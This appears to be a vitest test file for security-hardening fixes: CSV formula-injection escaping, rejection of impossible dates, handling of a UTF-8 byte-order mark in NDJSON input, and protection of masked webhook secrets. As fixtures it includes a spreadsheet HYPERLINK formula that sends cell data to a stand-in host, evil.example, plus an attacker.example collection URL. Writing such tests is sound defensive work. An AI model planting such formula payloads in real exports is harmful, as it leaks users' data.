// Hardening findings of issue 19 that live in pure code: CSV cells a spreadsheet would run,
// impossible dates, a UTF-8 byte-order mark, and a masked webhook secret put back with a
// new URL. Each case failed on the code before the fix.
import { describe, expect, it } from 'vitest';
import { restoreMaskedSecrets, SECRET_MASK } from '../../ingest/src/core/config-secrets.js';
import { validateLine } from '../../ingest/src/core/contract.js';
import { parseTs } from '../../ingest/src/core/event-timestamps.js';
import { decodeNdjson } from '../../ingest/src/core/ndjson.js';
import { defaultSiteConfig, type SiteConfig } from '../../ingest/src/core/site-config.js';
import { cell, toCsv } from '../../wallboard/src/lib/csv.js';

describe('board CSV export', () => {
  it.each([
    [
      '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
      `"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")"`,
    ],
    ['+1+cmd', "'+1+cmd"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\tTAB', "'\tTAB"],
    ['sales', 'sales'],
  ])('a text cell %j is written as text', (value, want) => {
    expect(cell(value)).toBe(want);
  });
  it('keeps numbers, negative ones included, as numbers', () => {
    expect(cell(-5)).toBe('-5');
    expect(cell(0.85)).toBe('0.85');
  });
  it('a queue named as a formula reaches the intervals export as text', () => {
    const csv = toCsv(
      [{ key: 'queue', header: 'queue', value: (r: { queue: string }) => r.queue }],
      [{ queue: '=HYPERLINK("http://evil.example/?leak="&A1,"click")' }],
      false,
    );
    expect(csv.split('\r\n')[1]?.startsWith(`"'=`)).toBe(true);
  });
});

describe('event times', () => {
  const now = Date.parse('2026-03-10T00:00:00Z');
  const line = (ts: string) =>
    JSON.stringify({ id: 'x1', ts, type: 'agent.login', site: 's', agent: 'a1' });
  it.each([
    '2026-02-30T10:00:00Z',
    '2026-02-29T10:00:00Z',
    '2026-04-31T08:00:00+08:00',
    '2026-03-01T24:00:00Z',
    '2026-03-01T10:60:00Z',
    '2026-13-01T10:00:00Z',
  ])('refuses %s, which is not on the calendar', (ts) => {
    const r = validateLine(line(ts), now);
    expect(r.ok).toBe(false);
    if (!r.ok) expect(r.error).toMatch(/field "ts" is not a valid date and time/);
  });
  it('still takes real dates, leap days of leap years and offsets without a colon', () => {
    expect(validateLine(line('2028-02-29T10:00:00Z'), Date.parse('2028-03-01T00:00:00Z')).ok).toBe(
      true,
    );
    expect(parseTs('2026-03-01T10:00:00+0800')).toBe(Date.parse('2026-03-01T02:00:00Z'));
    expect(validateLine(line('2026-03-09T23:59:59.999Z'), now).ok).toBe(true);
  });
});

describe('NDJSON bodies', () => {
  const limits = { maxLineBytes: 8192, maxBatchLines: 1000 };
  it('skips a UTF-8 byte-order mark at the start of a body', () => {
    const body = Buffer.concat([
      Buffer.from([0xef, 0xbb, 0xbf]),
      Buffer.from('{"a":1}\n{"b":"中"}\n'),
    ]);
    const lines = decodeNdjson(body, limits);
    expect(lines).toEqual([
      { line: 1, text: '{"a":1}' },
      { line: 2, text: '{"b":"中"}' },
    ]);
    expect(JSON.parse((lines[0] as { text: string }).text)).toEqual({ a: 1 });
  });
});

describe('masked webhook secrets', () => {
  const current: SiteConfig = {
    ...defaultSiteConfig('s'),
    overflow_rules: [
      {
        id: 'r1',
        webhook: { url: 'https://routing.example/hook', secret: 'the-real-secret-0123456789' },
      } as unknown as SiteConfig['overflow_rules'][number],
    ],
  };
  it('keeps the stored secret when the mask comes back with the same URL', () => {
    const body = {
      overflow_rules: [
        { id: 'r1', webhook: { url: 'https://routing.example/hook', secret: SECRET_MASK } },
      ],
    };
    expect(
      (restoreMaskedSecrets(body, current) as typeof body).overflow_rules[0]?.webhook.secret,
    ).toBe('the-real-secret-0123456789');
  });
  it('never carries the stored secret to a new URL', () => {
    const body = {
      overflow_rules: [
        { id: 'r1', webhook: { url: 'https://attacker.example/collect', secret: SECRET_MASK } },
      ],
    };
    expect(
      (restoreMaskedSecrets(body, current) as typeof body).overflow_rules[0]?.webhook.secret,
    ).toBe(SECRET_MASK);
  });
});
